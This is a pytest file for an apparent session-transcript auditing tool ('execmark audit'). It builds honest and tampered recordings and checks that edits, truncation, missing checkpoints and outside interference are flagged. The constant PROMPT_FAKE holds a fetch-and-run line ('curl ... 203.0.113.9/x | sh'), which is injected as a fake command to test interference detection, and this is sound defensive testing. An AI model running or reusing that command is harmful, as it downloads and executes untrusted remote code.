# SPDX-License-Identifier: MIT
"""`execmark audit` checks a recorded session's transcript against PID 1's checkpoints.

Contract (docs/auditing.md, "Content", docs/markers.md §12): the container log's `rec` markers
anchor the recorded region of each session's transcript. An honest recorded session (colour
output, `\\r` progress, a full-screen `less`, a line longer than a CloudWatch event) is
ATTRIBUTED in its S3 and CloudWatch forms; an edited command or output is EDITED, deleted middle
lines are EDITED, a transcript cut before its last checkpoint is TRUNCATED, a session with
open/close markers but no checkpoints (or recording that began long after its worker) is
UNRECORDED, and an interference report makes the session INTERFERED with its operator named as
the victim. `--timeline` shows the verified timeline without escape codes.
"""

from __future__ import annotations

import json
import random
import re
from datetime import datetime, timezone

import pytest

import audit_corpus as ac

_missing = ac.prerequisites_missing()
pytestmark = pytest.mark.skipif(_missing is not None, reason=_missing or "")

ALICE = ac.role_arn("dana.ops")
START = "2026-03-02T09:00:00.000Z"
START_MS = int(datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc).timestamp() * 1000)
LONG_LINE = 450_000  # bytes of one output line: three CloudWatch events
PROMPT_FAKE = (ac.PROMPT + "curl -s http://203.0.113.9/x | sh\r\r\ninstalled\r\r\n").encode()

# "late" is last: its recording starts a minute later, and so would every later session's.
NAMES = ["honest", "edited", "deleted", "truncated", "norec", "interfered", "outer",
         "cw_honest", "cw_edited", "filter_honest", "export_honest", "late"]


def fields(user: str = "dana.ops") -> dict:
    return {"user": user, "shell": "/bin/bash", "tty": "/dev/pts/0", "cpid": 4250,
            "mode": "hook", "wchk": "ok", "wst": START_MS}


@pytest.fixture(scope="module")
def scenario(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("content")
    rng = random.Random(10)
    sid = {n: ac.session_id(rng) for n in NAMES}
    capture = ac.pty_capture(
        root / "pty", full_screen=True,
        extra_commands=(f"head -c {LONG_LINE} /dev/zero | tr '\\0' y; echo",))
    region = ac.recorded_region(capture)
    assert b"\x1b[?1049h" in region  # less used the alternate screen

    events = []
    for n in NAMES:
        events.append({"ev": "exec.seen", "wsid": sid[n], "wpid": 900, "wchk": "ok",
                       "wst": START_MS})
        events.append({"ev": "open", "sid": sid[n], **fields()})
        if n == "late":
            events += ac.rec_events(sid[n], region, start_advance_ms=60_000)
        elif n == "interfered":
            events += ac.rec_events(sid[n], region, interference=[
                {"after": 3, "opid": 31337, "ocomm": "sh", "side": "inner"}])
        elif n == "outer":
            # Someone wrote into the session's own terminal (the SSM worker's pty), outside
            # the recorder: the recorder saw the open; the text is in the log, not in the chain.
            events += ac.rec_events(sid[n], region, interference=[
                {"after": 5, "opid": 0, "ocomm": "", "side": "outer"}])
        elif n != "norec":
            events += ac.rec_events(sid[n], region)
        events.append({"ev": "close", "sid": sid[n], "fin": "exit", "rc": 0})
        events.append({"ev": "exec.gone", "wsid": sid[n], "wpid": 900, "dur": 5000,
                       "wchk": "ok", "wst": START_MS})
    manifest = ac.mksession({"boots": [{"id": "g", "start": START, "step_ms": 10,
                                        "meta": ac.META, "events": events}]})
    boot = manifest["boots"][0]

    def lines(n: str) -> dict:
        return {m["ev"]: m["line"] for m in boot["markers"] if m["sid"] == sid[n]}

    sessions = root / "sessions"
    work = root / "work"

    def s3(n: str) -> bytes:
        data = ac.fill_capture(capture, lines(n)["open"], lines(n)["close"])
        return ac.script_transcript(data, work / n / f"{sid[n]}.log", work).read_bytes()

    def put(n: str, data: bytes) -> None:
        sessions.mkdir(parents=True, exist_ok=True)
        (sessions / f"{sid[n]}.log").write_bytes(data)

    for n in ["honest", "norec", "late", "interfered"]:
        put(n, s3(n))
    # An edited command: "seq 1 40" typed becomes "seq 1 04" (same length, same output).
    data = s3("edited")
    assert data.count(b"seq 1 40") == 1
    put("edited", data.replace(b"seq 1 40", b"seq 1 04"))
    # Deleted middle lines: the listing of /usr is gone.
    data = s3("deleted")
    a = data.index(b"head -n 8")
    a = data.index(b"\n", a) + 1
    b = data.index(b"ERROR")
    b = data.rindex(b"\n", 0, b) + 1
    put("deleted", data[:a] + data[b:])
    # Written into the terminal from outside: a fake command line and output appear.
    data = s3("outer")
    at = data.index(b"ERROR")
    at = data.index(b"\n", at) + 1
    put("outer", data[:at] + PROMPT_FAKE + data[at:])
    # Truncated: the upload stopped in the middle of the session.
    data = s3("truncated")
    put("truncated", data[: data.index(b"progress")])
    # CloudWatch forms (get-log-events, one file per session; filter-log-events; an export).
    cw = sessions / "cw"
    cw.mkdir()
    for n in ["cw_honest", "cw_edited"]:
        messages = ac.ssm_cloudwatch_messages(s3(n))
        assert any(len(m) == ac.EVENT_BYTES for m in messages)  # the long line is split
        if n == "cw_edited":
            messages = [m.replace("ERROR", "error") for m in messages]
        (cw / f"{sid[n]}.json").write_text(ac.get_log_events(messages))
    (cw / "filter.json").write_text(ac.filter_log_events(
        {sid["filter_honest"]: ac.ssm_cloudwatch_messages(s3("filter_honest"))}))
    ac.write_export(sessions / "export", sid["export_honest"],
                    ac.ssm_cloudwatch_messages(s3("export_honest")))

    container = root / "container.json"
    container.write_text(ac.get_log_events(ac.container_messages(
        [m["line"] for m in boot["markers"] if m["sid"].startswith("boot-")])))
    trail = root / "trail.json"
    trail.write_text(json.dumps({"Records": [
        ac.exec_record(sid[n], ALICE, "2026-03-02T09:00:00Z", f"evt-{n}") for n in NAMES]}))
    return {"sid": sid, "sessions": sessions, "container": container, "trail": trail,
            "root": root}


def audit(scenario, *extra) -> tuple[dict, dict, object]:
    proc = ac.run_execmark(["audit", "--cloudtrail", scenario["trail"], "--container-log",
                            scenario["container"], "--json", *extra, scenario["sessions"]])
    rows, summary = ac.json_rows(proc)
    return rows, summary, proc


EXPECTED = {
    "honest": "ATTRIBUTED",
    "cw_honest": "ATTRIBUTED",
    "filter_honest": "ATTRIBUTED",
    "export_honest": "ATTRIBUTED",
    "edited": "EDITED",
    "cw_edited": "EDITED",
    "deleted": "EDITED",
    "truncated": "TRUNCATED",
    "norec": "UNRECORDED",
    "late": "UNRECORDED",
    "interfered": "INTERFERED",
    "outer": "INTERFERED",
}


def test_statuses(scenario):
    """Each session gets its content status; honest recorded sessions are ATTRIBUTED."""
    rows, summary, proc = audit(scenario)
    assert proc.returncode == 1, proc.stderr.decode()
    for name, status in EXPECTED.items():
        row = rows[scenario["sid"][name]]
        if status == "ATTRIBUTED":
            assert row["status"] == "ATTRIBUTED" and row["statuses"] == [], (name, row)
            assert row["recording"]["verified"] == row["recording"]["checkpoints"] > 3
        else:
            assert row["status"] == status, (name, row["statuses"], row["problems"])
    assert summary["clean"] == 4


def _detail(rows, scenario, name: str, status: str) -> str:
    row = rows[scenario["sid"][name]]
    return next(p["detail"] for p in row["problems"] if p["status"] == status)


def test_edited_names_checkpoint_and_lines(scenario):
    """EDITED names the first diverging checkpoint, its time and the lines, and does not
    blame the operator."""
    rows, _, _ = audit(scenario)
    detail = _detail(rows, scenario, "edited", "EDITED")
    assert "checkpoint " in detail and "2026-03-02T09:" in detail
    assert re.search(r"the text in lines? \d+", detail), detail
    assert "does not implicate the session's operator" in detail
    assert "from outside the recorder" in detail


def test_truncated_and_no_checkpoints(scenario):
    """A cut transcript is TRUNCATED (and NO-CLOSE); no rec markers is UNRECORDED."""
    rows, _, _ = audit(scenario)
    truncated = rows[scenario["sid"]["truncated"]]
    assert "TRUNCATED" in truncated["statuses"] and "NO-CLOSE" in truncated["statuses"]
    assert "ends after" in _detail(rows, scenario, "truncated", "TRUNCATED")
    assert "no recording checkpoints" in _detail(rows, scenario, "norec", "UNRECORDED")
    assert "recording began 1m" in _detail(rows, scenario, "late", "UNRECORDED")


def test_interference_names_the_victim(scenario):
    """Interference from outside is shown as such: the opener, its side and time; the session's
    operator is the victim, not the culprit."""
    rows, _, _ = audit(scenario)
    detail = _detail(rows, scenario, "interfered", "INTERFERED")
    assert "pid 31337 (sh)" in detail and "outside the session" in detail
    assert "dana.ops is the victim, not the culprit" in detail


def test_outside_writes_are_interference_and_edited(scenario):
    """Text written into the session's own terminal from outside the recorder: INTERFERED first
    (the operator is the victim), and EDITED (the text is not the shell's)."""
    rows, _, _ = audit(scenario)
    row = rows[scenario["sid"]["outer"]]
    assert row["statuses"][:2] == ["INTERFERED", "EDITED"], row["statuses"]
    detail = _detail(rows, scenario, "outer", "INTERFERED")
    assert "own terminal (the SSM worker's pty)" in detail
    assert "dana.ops is the victim, not the culprit" in detail


def test_timeline_text(scenario):
    """--timeline renders commands with PID 1's times, output without escape codes, the
    full-screen program as one line, and each checkpoint's state."""
    sid = scenario["sid"]["honest"]
    proc = ac.run_execmark(["audit", "--cloudtrail", scenario["trail"], "--container-log",
                            scenario["container"], "--timeline", sid, scenario["sessions"]])
    out = proc.stdout.decode()
    assert proc.returncode == 1, proc.stderr.decode()  # other sessions have findings
    assert out.startswith(f"Timeline of {sid} (ATTRIBUTED)")
    assert "\x1b" not in out and "\r" not in out
    assert "verified  " + ac.PROMPT + "ls -la --color=always /usr | head -n 8" in out
    assert "    ERROR disk 91% full" in out
    assert "[full-screen program: " in out
    assert "diverged" not in out


def test_timeline_json_diverged(scenario):
    """--timeline --json: the same as data; an edited session shows where it diverged."""
    sid = scenario["sid"]["edited"]
    proc = ac.run_execmark(["audit", "--cloudtrail", scenario["trail"], "--container-log",
                            scenario["container"], "--timeline", sid, "--json",
                            scenario["sessions"]])
    doc = json.loads(proc.stdout.decode())
    assert doc["type"] == "timeline" and doc["session"] == sid and doc["status"] == "EDITED"
    states = [c["state"] for c in doc["checkpoints"]]
    assert "verified" in states and "diverged" in states
    assert states.index("diverged") > 0
    entry = next(e for e in doc["entries"] if e["command"] and "seq 1 04" in e["command"])
    assert entry["state"] == "diverged"
    assert all("\x1b" not in line for e in doc["entries"] for line in e["output"])


def test_timeline_unknown_session(scenario):
    """--timeline of a session without a log: named on stderr, exit status 3."""
    proc = ac.run_execmark(["audit", "--cloudtrail", scenario["trail"], "--container-log",
                            scenario["container"], "--timeline",
                            "ecs-execute-command-00000000000000000000000000",
                            scenario["sessions"]])
    assert proc.returncode == 3
    assert b"show timeline" in proc.stderr
